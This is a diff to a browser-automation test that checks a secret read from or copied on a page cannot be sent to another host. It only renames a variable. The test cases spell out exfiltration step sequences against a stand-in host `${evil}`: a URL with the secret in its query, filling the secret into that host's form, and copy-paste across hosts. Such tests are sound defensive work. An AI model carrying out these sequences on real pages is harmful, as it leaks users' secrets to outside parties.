@@ -34,11 +34,11 @@ browserTest('a secret that a step reads from a page, or copies there, goes to it
     { action: 'fill', target: field, text: '{{variables.key}}' },
   ];
   const extract = { action: 'extract', target: field, read: 'value', as: 'v' };
-  const there = { action: 'goto', url: `${evil}/form` };
+  const openOtherHost = { action: 'goto', url: `${evil}/form` };
   const ways: Readonly<Record<string, readonly [readonly object[], RegExp]>> = {
     'an address': [[...start, extract, { action: 'goto', url: `${evil}/?v={{values.v}}` }], /not bound to evil/],
     'a field': [
-      [...start, extract, there, { action: 'fill', target: field, text: '{{values.v}}' }],
+      [...start, extract, openOtherHost, { action: 'fill', target: field, text: '{{values.v}}' }],
       /not bound to evil/,
     ],
     'a selector': [
@@ -51,7 +51,7 @@ browserTest('a secret that a step reads from a page, or copies there, goes to it
         ...start,
         { action: 'press', target: field, key: 'Control+A' },
         { action: 'press', target: field, key: 'Control+C' },
-        there,
+        openOtherHost,
         { action: 'press', target: field, key: 'Control+V' },
       ],
       /not bound to evil/,
